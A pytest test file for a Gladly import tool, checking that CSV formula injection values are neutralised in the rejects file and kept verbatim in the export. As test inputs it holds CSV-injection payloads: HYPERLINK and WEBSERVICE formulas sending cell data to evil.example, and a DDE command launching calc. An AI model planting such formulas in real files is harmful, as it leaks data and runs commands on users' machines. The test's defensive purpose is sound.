"""Files people open in a spreadsheet run no formula; the Gladly CSV stays faithful to the data."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from gladly_import.spreadsheet import neutralise
from tests.python.conftest import run_import, write_config


@pytest.mark.parametrize(("value", "safe"), [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\tplain", "'\tplain"),  # OWASP: a leading tab or carriage return, whatever follows
    ("  =1+1", "'  =1+1"),  # leading blanks before a formula character
    ("\n@x", "'\n@x"),
    ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
    ("jane=doe@example.com", "jane=doe@example.com"),  # not at the start: plain text
    ("'=already quoted", "'=already quoted"),
    ("  plain", "  plain"),
    ("", ""),
    (None, None),
    (-5, -5),  # numbers are written as numbers, no formula
])
def test_neutralise(value: object, safe: object) -> None:
    assert neutralise(value) == safe


HEADER = ("Conversation Item ID,Customer Email,Customer Name,Customer Phone,Conversation Item Timestamp,"
          "Conversation Item Title,Conversation Item Body,Conversation Item Source,Tags\r\n")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def _csv_line(*cells: str) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(cells)
    return buffer.getvalue()


@pytest.mark.slow
def test_rejects_file_neutralises_formulas_in_every_column_and_the_gladly_csv_keeps_them(tmp_path: Path) -> None:
    rows = [
        # an invalid id (first column of the rejects file)
        _csv_line(FORMULA, "a@example.com", "A", "", "2021-01-01T00:00:00Z", "t", "body", "Web", ""),
        # a valid id starting with '-', no email
        _csv_line("-1-2", "", "B", "", "2021-01-02T00:00:00Z", "t", "body", "Web", ""),
        # an email that is a formula; the title goes to raw_excerpt
        _csv_line("x-3", "=cmd|' /C calc'!A0", "C", "", "2021-01-03T00:00:00Z", "@SUM(1+1)", "body", "Web", ""),
        # a title with a tab before '=' (the import keeps the tab: trimmed, it would be a formula), an empty body
        _csv_line("x-4", "d@example.com", "D", "", "2021-01-04T00:00:00Z", "\t=1+1", "", "Web", ""),
        # exported: the Gladly CSV keeps the formula-looking text exactly
        _csv_line("x-5", "e@example.com", "+Eve", "+44 20 7946 0958", "2021-01-05T00:00:00Z",
                  "-minus title", FORMULA, "@web", ""),
    ]
    (tmp_path / "items.csv").write_text(HEADER + "".join(rows), encoding="utf-8", newline="")
    # a file whose name is a formula (source_file), malformed lines starting with '=' and with a tab before '='
    (tmp_path / "=zendesk.json").write_text('=WEBSERVICE("http://evil.example/")\n\t=1+2 after a tab\n',
                                            encoding="utf-8")
    config = write_config(tmp_path, {"csv": {"path": "items.csv"}, "zendesk": {"path": "=zendesk.json"}})
    result = run_import(config)
    assert result.returncode == 3, result.stderr  # the Zendesk file exports nothing: the run needs review
    assert [e["platform"] for e in result.summary["review"]] == ["zendesk"]

    rejects = {(r["source_platform"], r["reject_reason"]): r for r in result.rejects()}
    assert rejects[("csv", "invalid_id")]["conversation_item_id"] == "'" + FORMULA
    assert rejects[("csv", "missing_email")]["conversation_item_id"] == "'-1-2"
    assert rejects[("csv", "invalid_email")]["customer_email_raw"] == "'=cmd|' /C calc'!A0"
    assert rejects[("csv", "invalid_email")]["raw_excerpt"] == "'@SUM(1+1)"
    assert rejects[("csv", "empty_body")]["raw_excerpt"] == "'\t=1+1"  # the title as it arrived
    zendesk = sorted((r["source_row"], r["source_file"], r["raw_excerpt"]) for r in result.rejects()
                     if r["source_platform"] == "zendesk")
    assert [(row, name) for row, name, _ in zendesk] == [("1", "'=zendesk.json"), ("2", "'=zendesk.json")]
    assert zendesk[0][2].startswith("'=WEBSERVICE(")
    assert zendesk[1][2].startswith("'") and zendesk[1][2].lstrip("'").lstrip(" \t").startswith("=1+2")
    with open(result.output_dir / "gladly_import_rejects.csv", encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    (item,) = result.items()
    assert (item["Conversation Item ID"], item["Customer Name"], item["Customer Phone"],
            item["Conversation Item Title"], item["Conversation Item Body"], item["Conversation Item Source"]) == (
        "x-5", "+Eve", "+44 20 7946 0958", "-minus title", FORMULA, "@web")
